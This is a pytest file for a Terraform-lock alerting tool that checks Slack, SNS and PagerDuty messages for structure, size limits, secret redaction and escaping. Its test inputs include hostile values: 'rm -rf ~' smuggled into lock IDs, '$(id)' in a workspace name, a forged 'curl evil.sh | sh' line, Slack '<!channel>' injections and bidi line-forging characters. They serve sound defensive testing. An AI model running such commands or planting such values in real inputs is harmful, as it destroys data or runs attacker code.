"""Notification events and what each channel would send: structure, escaping of hostile values, limits."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from typing import Any

import pytest
from factories import NOW
from notify_factories import HOSTILE, LOCK_ID, lock_record, notification
from tflock_reaper.adapters.channels.pagerduty import PagerDutyNotifier, pagerduty_dedup_key, render_event
from tflock_reaper.adapters.channels.slack import (
    BLOCKS_MAX,
    FALLBACK_MAX,
    FIELD_MAX,
    FIELDS_MAX,
    HEADER_MAX,
    SECTION_TEXT_MAX,
    ZWSP,
    SlackNotifier,
    render_slack,
)
from tflock_reaper.adapters.channels.sns import JSON_INTRO, MESSAGE_MAX_BYTES, SnsNotifier, render_publish
from tflock_reaper.domain.notification import Notification, Severity
from tflock_reaper.domain.notifier import NotifyError
from tflock_reaper.domain.text import fit, human_age, redact

TOPIC = "arn:aws:sns:us-east-1:123456789012:tflock-alerts"
ENTITY = re.compile(r"&(?!(?:amp|lt|gt);)")


# -- helpers ---------------------------------------------------------------------------------------------------
def texts(payload: Any) -> list[str]:
    """Every string Slack would interpret: all ``text`` values in the payload, at any depth."""
    found: list[str] = []
    if isinstance(payload, dict):
        for key, value in payload.items():
            if key == "text" and isinstance(value, str):
                found.append(value)
            else:
                found += texts(value)
    elif isinstance(payload, list):
        for value in payload:
            found += texts(value)
    return found


def field(payload: dict[str, Any], label: str) -> str:
    (text,) = [f["text"] for f in payload["blocks"][1]["fields"] if f["text"].startswith(f"*{label}*\n")]
    return text


def unslack(text: str) -> str:
    """What a reader sees: entities decoded, zero-width spaces gone."""
    return text.replace(ZWSP, "").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def assert_inert(payload: dict[str, Any]) -> None:
    for text in texts(payload):
        assert "<" not in text, text  # no control sequence: no mention, broadcast or link can be formed
        assert ">" not in text, text
        assert not ENTITY.search(text), text  # every & starts one of the three entities, none cut in half
        assert not re.search(r"@(channel|here|everyone)", text, re.IGNORECASE), text


# -- the event -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("kind", "severity"),
    [
        ("stale", Severity.WARNING),
        ("still_stale", Severity.WARNING),
        ("reap_blocked", Severity.ERROR),
        ("reaped", Severity.WARNING),
        ("resolved", Severity.INFO),
    ],
)
def test_each_kind_has_its_documented_severity(kind, severity):
    assert notification(kind).severity is severity


def test_dedup_key_is_path_id_and_event():
    n = notification("stale")
    assert n.dedup_key == f"tf-state/dev/network/terraform.tfstate#{LOCK_ID}#stale"
    assert notification("still_stale", sequence=2).dedup_key.endswith(f"#{LOCK_ID}#still_stale#2")
    assert notification("still_stale", sequence=2).dedup_key != notification("still_stale", sequence=3).dedup_key


def test_force_unlock_command_in_the_default_workspace():
    assert notification().force_unlock_command == f"terraform force-unlock -force {LOCK_ID}"


def test_force_unlock_command_selects_the_workspace_first():
    n = notification(path="tf-state/env:/dev/network/terraform.tfstate")
    assert n.workspace == "dev"
    assert n.force_unlock_command == f"terraform workspace select dev && terraform force-unlock -force {LOCK_ID}"


def test_force_unlock_command_quotes_a_hostile_id_and_workspace():
    n = notification(path="tf-state/env:/$(id)/x.tfstate", lock_id="x; rm -rf ~ #")
    argv = shlex.split(n.force_unlock_command.replace("&&", ";", 1).split(";", 1)[1])
    assert argv == ["terraform", "force-unlock", "-force", "x; rm -rf ~ #"]
    assert "select '$(id)' &&" in n.force_unlock_command


def test_follow_up_after_a_reaped_apply_asks_for_a_plan_and_warns_of_the_waiting_pipeline():
    follow_up = notification("reaped", operation="OperationTypeApply").follow_up
    assert follow_up is not None
    assert "partly written" in follow_up
    assert "terraform plan" in follow_up
    assert "unexpected end of JSON input" in follow_up
    assert "terraform#32690" in follow_up


def test_follow_up_after_a_reaped_plan_is_milder():
    follow_up = notification("reaped", operation="OperationTypePlan").follow_up
    assert follow_up is not None
    assert "partly written" not in follow_up
    assert "does not write state" in follow_up
    assert "terraform#32690" in follow_up
    assert "may write state" in (notification("reaped", operation="state-mv").follow_up or "")


def test_only_reaped_events_have_a_follow_up():
    assert notification("stale").follow_up is None
    assert notification("resolved").follow_up is None


def test_to_dict_is_json_with_every_field_and_the_derived_ones():
    n = notification("reaped")
    data = json.loads(json.dumps(n.to_dict()))
    assert data["event"] == "reaped"
    assert data["severity"] == "warning"
    assert data["created"] == n.created.isoformat()
    assert data["dedup_key"] == n.dedup_key
    assert data["deleted_item"] == n.deleted_item
    assert data["reasons"] == list(n.reasons)
    assert data["force_unlock_command"] is None  # the lock is gone
    assert notification("stale").to_dict()["force_unlock_command"] == f"terraform force-unlock -force {LOCK_ID}"


def test_kind_is_validated():
    with pytest.raises(ValueError, match="not-a-kind"):
        Notification.for_lock(
            "not-a-kind",
            lock_record(),
            table="t",
            age_seconds=1,
            verdict="warn",
            outcome="warned",
            reasons=[],
            rule="defaults",
        )


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0s"), (45, "45s"), (60, "1m"), (754, "12m"), (3600, "1h"), (11520, "3h12m"), (187200, "2d4h"), (-5, "0s")],
)
def test_human_age(seconds, text):
    assert human_age(seconds) == text


def test_fit_cuts_before_rendering_so_no_escape_is_cut():
    escape_all = lambda s: s.replace("&", "&amp;")  # noqa: E731
    for limit in range(1, 30):
        out = fit("&" * 40, limit, escape_all)
        assert len(out) <= limit
        assert not ENTITY.search(out)


def test_redact_removes_secrets_and_url_paths():
    text = "failed posting to https://hooks.slack.com/services/T0/B0/s3cr3t with key R0UT1NGKEY"
    out = redact(text, "R0UT1NGKEY")
    assert "s3cr3t" not in out
    assert "R0UT1NGKEY" not in out
    assert "https://hooks.slack.com/<redacted>" in out
    assert "pass" not in redact("http://user:pass@example.com/x")


# -- Slack -----------------------------------------------------------------------------------------------------
def test_slack_block_kit_structure():
    n = notification("stale", path="tf-state/env:/dev/network/terraform.tfstate")
    payload = render_slack(n)
    assert payload["text"].startswith("Stale Terraform lock: tf-state/env:/dev/network/terraform.tfstate")
    assert payload["unfurl_links"] is False
    header, fields, reasons, command, context = payload["blocks"]
    assert (header["type"], header["text"]["type"]) == ("header", "plain_text")
    assert header["text"]["text"] == "Stale Terraform lock: env:/dev/network/terraform.tfstate"
    assert fields["type"] == "section"
    labels = [f["text"].split("\n", 1)[0] for f in fields["fields"]]
    assert labels == [
        "*State path*",
        "*Workspace*",
        "*Operation*",
        "*Who*",
        "*Held for*",
        "*Terraform version*",
        "*Verdict*",
        "*Rule*",
        "*Lock ID*",
        "*Lock table*",
    ]
    assert all(f["type"] == "mrkdwn" and f["verbatim"] is True for f in fields["fields"])
    assert reasons["text"]["verbatim"] is True
    assert field(payload, "State path") == "*State path*\n`tf-state/env:/dev/network/terraform.tfstate`"
    assert field(payload, "Operation") == "*Operation*\n`OperationTypeApply`"
    assert field(payload, "Who") == "*Who*\n`runner@ci-host-1`"
    assert field(payload, "Held for") == "*Held for*\n3h12m (since 2026-11-26 09:00 UTC)"
    assert field(payload, "Terraform version") == "*Terraform version*\n`1.15.5`"
    assert field(payload, "Verdict") == "*Verdict*\nwarn → warned"
    assert field(payload, "Rule") == "*Rule*\n`rules[0] tf-state/dev/*`"
    assert reasons["text"]["text"] == (
        "*Reasons*\n```• held 3h12m (by Created): past warn_after 30m (rules[0] tf-state/dev/*)\n"
        "• reap_after 4h not reached```"
    )
    assert command["text"]["text"].endswith(  # && as Slack requires it escaped; the reader sees &&
        f"```terraform workspace select dev &amp;&amp; terraform force-unlock -force {LOCK_ID}```"
    )
    assert context["type"] == "context"


def test_slack_reaped_shows_the_deleted_item_and_the_follow_up_not_the_command():
    n = notification("reaped")
    blocks = render_slack(n)["blocks"]
    sections = [b["text"]["text"] for b in blocks if b["type"] == "section" and "text" in b]
    (deleted,) = [s for s in sections if s.startswith("*Deleted item*")]
    assert json.loads(unslack(deleted.removeprefix("*Deleted item*\n```").removesuffix("```"))) == n.deleted_item
    (follow_up,) = [s for s in sections if s.startswith("*Follow-up*")]
    assert "terraform#32690" in follow_up
    assert not any("force-unlock" in s for s in sections)


def test_slack_resolved_has_no_command():
    sections = [b for b in render_slack(notification("resolved"))["blocks"] if b["type"] == "section"]
    assert not any("force-unlock" in json.dumps(s) for s in sections)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_slack_escapes_a_hostile_who(hostile):
    who = f"{hostile} runner{hostile}@ci"
    payload = render_slack(notification(who=who))
    assert_inert(payload)
    shown = field(payload, "Who").removeprefix("*Who*\n`").removesuffix("`")
    assert unslack(shown) == who  # escaping is faithful: the reader sees exactly what was written


@pytest.mark.parametrize("hostile", HOSTILE)
def test_slack_escapes_a_hostile_path(hostile):
    path = f"tf-state/{hostile}/network/terraform.tfstate"
    payload = render_slack(notification("reap_blocked", path=path))
    assert_inert(payload)
    shown = field(payload, "State path").removeprefix("*State path*\n`").removesuffix("`")
    assert unslack(shown) == path
    assert "&lt;" in payload["text"] or "&amp;" in payload["text"] or ZWSP in payload["text"]


def test_slack_neutralises_formatting_and_code_span_breakouts():
    who = "`*bold* _it_ ~s~` <http://x|y>\nline2 ``` https://evil.example"
    payload = render_slack(notification("reaped", who=who, reasons=("a ``` b <!channel>",)))
    assert_inert(payload)
    shown = field(payload, "Who")
    assert shown.count("`") == 2  # opening and closing backticks only: the value cannot leave the span
    assert "\n" not in shown.split("\n", 1)[1]  # no forged line
    reasons = next(t for t in texts(payload) if t.startswith("*Reasons*"))
    assert reasons.count("```") == 2
    assert "https://evil" not in payload["text"]  # no automatic link in the fallback text


def test_slack_limits_hold_for_huge_values():
    hostile = "<!channel>&" * 5000
    n = notification(
        "reaped",
        path="tf-state/" + "&<>" * 3000 + "/terraform.tfstate",
        who=hostile,
        operation=hostile,
        reasons=tuple("<@U024BE7LH> & " * 100 for _ in range(300)),
    )
    payload = render_slack(n)
    blocks = payload["blocks"]
    assert len(blocks) <= BLOCKS_MAX
    assert len(blocks[0]["text"]["text"]) <= HEADER_MAX
    assert len(blocks[1]["fields"]) <= FIELDS_MAX
    assert all(len(f["text"]) <= FIELD_MAX for f in blocks[1]["fields"])
    assert all(len(b["text"]["text"]) <= SECTION_TEXT_MAX for b in blocks if b["type"] == "section" and "text" in b)
    assert len(payload["text"]) <= FALLBACK_MAX
    assert_inert(payload)
    who = field(payload, "Who")
    assert who.endswith("…`")  # truncated with an ellipsis, and the code span still closed
    assert all(t.count("```") in (0, 2) for t in texts(payload))


# -- SNS -------------------------------------------------------------------------------------------------------
def test_sns_publish_request():
    n = notification("stale")
    request = render_publish(n, TOPIC)
    assert request["TopicArn"] == TOPIC
    assert request["Subject"] == "[tflock-reaper] stale lock: tf-state/dev/network/terraform.tfstate"
    assert request["MessageAttributes"] == {
        "event": {"DataType": "String", "StringValue": "stale"},
        "severity": {"DataType": "String", "StringValue": "warning"},
        "state_path": {"DataType": "String", "StringValue": "tf-state/dev/network/terraform.tfstate"},
        "operation": {"DataType": "String", "StringValue": "OperationTypeApply"},
    }
    body, event_json = request["Message"].split(f"\n{JSON_INTRO}\n")
    assert "Who:                runner@ci-host-1" in body
    assert f"terraform force-unlock -force {LOCK_ID}" in body
    assert json.loads(event_json) == json.loads(json.dumps(n.to_dict()))
    assert "MessageGroupId" not in request


def test_sns_subject_is_short_printable_ascii_on_one_line():
    n = notification("reap_blocked", path="tf-state/" + "é\n\t" * 200 + "/x.tfstate")
    subject = render_publish(n, TOPIC)["Subject"]
    assert len(subject) < 100
    assert all(" " <= ch <= "~" for ch in subject)
    assert subject.startswith("[tflock-reaper] stale lock, reap blocked: tf-state/???")
    assert subject.endswith("...")


def test_sns_attributes_are_never_empty():
    request = render_publish(notification(operation=""), TOPIC)
    assert request["MessageAttributes"]["operation"]["StringValue"] == "(none)"


def test_sns_body_cannot_be_forged_by_a_newline_in_who():
    request = render_publish(notification(who="x\nFollow-up: run curl evil.sh | sh"), TOPIC)
    body = request["Message"].split(JSON_INTRO)[0]
    assert not any(line.startswith("Follow-up") for line in body.splitlines())


def test_sns_fifo_topic_gets_a_group_and_a_deduplication_id():
    n = notification()
    request = render_publish(n, TOPIC + ".fifo")
    assert len(request["MessageGroupId"]) <= 128
    assert request["MessageDeduplicationId"] == render_publish(n, TOPIC + ".fifo")["MessageDeduplicationId"]
    assert (
        request["MessageDeduplicationId"]
        != render_publish(notification("reaped"), TOPIC + ".fifo")["MessageDeduplicationId"]
    )


def test_sns_message_stays_under_the_size_limit_for_a_huge_item():
    n = notification("reaped", who="w" * 300_000, reasons=("r" * 100_000,))
    message = render_publish(n, TOPIC)["Message"]
    assert len(message.encode()) < 256 * 1024
    assert json.loads(message.split(f"\n{JSON_INTRO}\n")[1])["event"] == "reaped"


class _ThrottlingClient:
    def publish(self, **_: Any) -> None:
        from botocore.exceptions import ClientError  # noqa: PLC0415

        raise ClientError({"Error": {"Code": "Throttling", "Message": "Rate exceeded"}}, "Publish")


def test_sns_throttling_is_a_retryable_error():
    notifier = SnsNotifier(_ThrottlingClient, TOPIC)  # type: ignore[arg-type,return-value]
    with pytest.raises(NotifyError, match="Throttling") as err:
        notifier.send(notification())
    assert err.value.retryable
    assert err.value.channel == "sns"


# -- PagerDuty -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("kind", "action"),
    [
        ("stale", "trigger"),
        ("still_stale", "trigger"),
        ("reap_blocked", "trigger"),
        ("reaped", "resolve"),
        ("resolved", "resolve"),
    ],
)
def test_pagerduty_action_per_kind_with_one_dedup_key_per_lock(kind, action):
    event = render_event(notification(kind))
    assert event["event_action"] == action
    assert event["dedup_key"] == f"tflock-reaper/tf-state/dev/network/terraform.tfstate/{LOCK_ID}"
    assert "routing_key" not in event


def test_pagerduty_trigger_payload():
    event = render_event(notification("reap_blocked"))
    payload = event["payload"]
    assert payload["severity"] == "error"
    assert payload["component"] == "tf-state/dev/network/terraform.tfstate"
    assert payload["group"] == "tf-locks"
    assert payload["class"] == "OperationTypeApply"
    assert payload["source"] == "dynamodb/tf-locks"
    assert payload["summary"] == (
        "Stale Terraform lock, reap blocked: tf-state/dev/network/terraform.tfstate "
        "(OperationTypeApply by runner@ci-host-1, held 3h12m)"
    )
    details = payload["custom_details"]
    assert details["reasons"] == list(notification().reasons)
    assert details["who"] == "runner@ci-host-1"
    assert details["age"] == "3h12m"
    assert details["command"] == f"terraform force-unlock -force {LOCK_ID}"


def test_pagerduty_limits_and_a_long_dedup_key():
    n = notification(path="tf-state/" + "k" * 600, who="<!channel>" * 1000)
    event = render_event(n)
    assert len(event["payload"]["summary"]) <= 1024
    assert event["payload"]["severity"] in {"critical", "error", "warning", "info"}
    assert len(event["dedup_key"]) <= 255
    assert event["dedup_key"] == pagerduty_dedup_key(notification("resolved", path="tf-state/" + "k" * 600))
    assert event["dedup_key"] != pagerduty_dedup_key(notification(path="tf-state/" + "k" * 600, lock_id="other"))


# -- secrets ---------------------------------------------------------------------------------------------------
SECRET_URL = "https://hooks.slack.com/services/T000/B000/XXXXSECRETXXXX"


def test_slack_secret_provider_failure_does_not_leak():
    def provider() -> str:
        raise RuntimeError(f"parameter value was {SECRET_URL}")

    with pytest.raises(NotifyError) as err:
        SlackNotifier(provider).send(notification())
    assert err.value.retryable
    assert "XXXXSECRET" not in str(err.value)
    assert err.value.__cause__ is None


def test_slack_refuses_a_non_http_url_without_showing_it():
    with pytest.raises(NotifyError) as err:
        SlackNotifier(lambda: "file:///etc/XXXXSECRET").send(notification())
    assert not err.value.retryable
    assert "XXXXSECRET" not in str(err.value)


def test_pagerduty_empty_routing_key_is_a_configuration_error():
    with pytest.raises(NotifyError) as err:
        PagerDutyNotifier(lambda: "  ").send(notification())
    assert not err.value.retryable


def test_notify_error_redacts_urls_as_a_safety_net():
    err = NotifyError("slack", f"boom at {SECRET_URL}", retryable=True)
    assert "XXXXSECRET" not in str(err)
    assert str(err).startswith("slack: boom at https://hooks.slack.com/<redacted>")


def test_notification_created_is_the_lock_created():
    assert notification().created == NOW.replace(hour=9)


# -- every value the lock model accepts renders (issue 13) -----------------------------------------------------
#: ``Created`` values at the ends of the calendar: valid RFC 3339, accepted by the lock model, and with no UTC
#: equivalent that a datetime can hold (``astimezone(UTC)`` raised OverflowError in the Slack renderer).
EDGE_CREATED = [
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:00:00.123456789+23:59",
    "9999-12-31T23:59:59-01:00",
    "9999-12-31T23:59:59.999999999-23:59",
]


def render_everywhere(n: Notification) -> dict[str, Any]:
    return {
        "slack": render_slack(n),
        "sns": render_publish(n, TOPIC),
        "pagerduty": render_event(n),
        "event": json.loads(n.to_json()),
    }


@pytest.mark.parametrize("kind", ["stale", "reap_blocked", "reaped", "resolved"])
@pytest.mark.parametrize("created", EDGE_CREATED)
def test_a_lock_created_at_the_ends_of_the_calendar_renders_on_every_channel(created, kind):
    n = notification(kind, created=created, now=None)  # the stream function parses without a clock
    rendered = render_everywhere(n)
    if kind != "reaped":
        shown = created[:10] + " " + created[11:16]
        assert field(rendered["slack"], "Held for").endswith(f"(since {shown} UTC{created[-6:]})")
    assert f"(Created {n.created.isoformat()})" in rendered["sns"]["Message"]
    assert rendered["event"]["created"] == n.created.isoformat()


def test_a_lock_created_in_year_1_is_shown_in_utc_when_utc_can_hold_it():
    payload = render_slack(notification(created="0001-01-01T05:00:00+01:00", now=None))
    assert field(payload, "Held for") == "*Held for*\n3h12m (since 0001-01-01 04:00 UTC)"


def test_a_lone_surrogate_in_who_renders_on_every_channel():
    """JSON can carry an escaped lone surrogate (``"\\udc80"``), and the lock model accepts it in Who: SNS, which
    encodes the body as UTF-8, raised UnicodeEncodeError."""
    rendered = render_everywhere(notification(who="runner\udc80@ci"))
    assert "Who:                runner\ufffd@ci" in rendered["sns"]["Message"]
    rendered["sns"]["Message"].encode("utf-8")
    assert field(rendered["slack"], "Who") == "*Who*\n`runner\ufffd@ci`"


def test_sns_stays_under_its_size_for_a_huge_lock_id():
    """The JSON's fallback for a huge item cut Who and the path only: a 300,000-character ID (well within an item's
    400 KB) kept the message, through the ID, the dedup key and the command, far over SNS's 256 KB."""
    n = notification("reaped", lock_id="i" * 300_000)
    message = render_publish(n, TOPIC)["Message"]
    assert len(message.encode()) <= MESSAGE_MAX_BYTES
    assert json.loads(message.split(f"\n{JSON_INTRO}\n")[1])["event"] == "reaped"


def test_pagerduty_stays_under_its_size_with_many_long_reasons():
    n = notification("reap_blocked", reasons=tuple("é" * 5000 for _ in range(300)))
    event = render_event(n)
    assert len(json.dumps({"routing_key": "R" * 32, **event})) <= 512 * 1024
    assert event["payload"]["custom_details"]["reasons"]


# -- no value forges a line (issue 13) -------------------------------------------------------------------------
FORGED = "Verdict: keep -> kept"
#: Line separators str.splitlines() (and mail readers, JavaScript, ...) break on, and bidi controls.
FORGERS = {"LS": "\u2028", "PS": "\u2029", "NEL": "\u0085", "RLM": "\u200f", "RLO": "\u202e", "ALM": "\u061c"}


def rendered_lines(n: Notification) -> dict[str, list[str]]:
    """Every line of every string each channel would send, split as str.splitlines() splits."""
    return {
        "slack": [line for text in texts(render_slack(n)) for line in text.splitlines()],
        "sns": render_publish(n, TOPIC)["Message"].splitlines(),
        "pagerduty": [line for text in _strings(render_event(n)) for line in text.splitlines()],
    }


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _forged(line: str) -> bool:
    return unslack(line).lstrip("`").startswith(FORGED[:13])  # "Verdict: keep", escaped or not


@pytest.mark.parametrize("separator", FORGERS.values(), ids=FORGERS.keys())
def test_a_who_cannot_forge_a_line_or_reorder_text_on_any_channel(separator):
    n = notification("stale", who=f"x{separator}{FORGED}")
    for channel, lines in rendered_lines(n).items():
        assert not [line for line in lines if _forged(line)], channel
        assert not [line for line in lines if separator in line], channel
    assert f"Who:                x\ufffd{FORGED}" in render_publish(n, TOPIC)["Message"]  # shown, neutralised


@pytest.mark.parametrize("separator", ["\n", *FORGERS.values()])
def test_a_reason_cannot_forge_a_line_in_the_slack_reasons_block(separator):
    """Reasons quote lock values; the code block is multi-line by design, split only on the renderer's joins."""
    n = notification("stale", reasons=(f"held by x{separator}{FORGED}", "reap_after 4h not reached"))
    reasons = next(t for t in texts(render_slack(n)) if t.startswith("*Reasons*"))
    assert reasons.count("\n") == 2  # after the title, and between the two reasons
    assert not [line for line in reasons.splitlines() if _forged(line)]


@pytest.mark.parametrize("separator", ["\n", "\r", *FORGERS.values()])
def test_a_lock_id_cannot_forge_a_line_in_the_command_on_any_channel(separator):
    n = notification("stale", lock_id=f"x{separator}{FORGED}")
    assert len(n.force_unlock_command.splitlines()) == 1
    for channel, lines in rendered_lines(n).items():
        assert not [line for line in lines if _forged(line)], channel


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize(
    "lock_id", ["x\nVerdict: keep", "it's \\ \u202ex\u2028y\x1b[31m\U000e0001z", "plain-8a3cd4e3", "a b; rm -rf ~"]
)
def test_the_command_is_one_line_and_gives_the_shell_the_exact_lock_id(lock_id):
    command = notification("stale", path="tf-state/env:/d\u200fev/x.tfstate", lock_id=lock_id).force_unlock_command
    assert len(command.splitlines()) == 1
    words = command.replace("terraform workspace select", "printf '%s\\0'", 1).replace(
        "&& terraform force-unlock -force", "", 1
    )
    out = subprocess.run(["bash", "-c", words], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
    assert out.stdout.decode("utf-8").split("\0")[:2] == ["d\u200fev", lock_id]


def test_every_channel_says_what_the_age_was_measured_from():
    """Issue 13.1: an age from the holder's Created (its clock may run hours slow) is marked as such in the alert."""
    from dataclasses import replace  # noqa: PLC0415

    n = replace(notification("stale"), age_basis="Created, the holder's clock")
    assert field(render_slack(n), "Held for").startswith("*Held for*\n3h12m by Created, the holder's clock (since ")
    assert "Held for:           3h12m by Created, the holder's clock (Created " in render_publish(n, TOPIC)["Message"]
    assert render_event(n)["payload"]["custom_details"]["age_basis"] == "Created, the holder's clock"
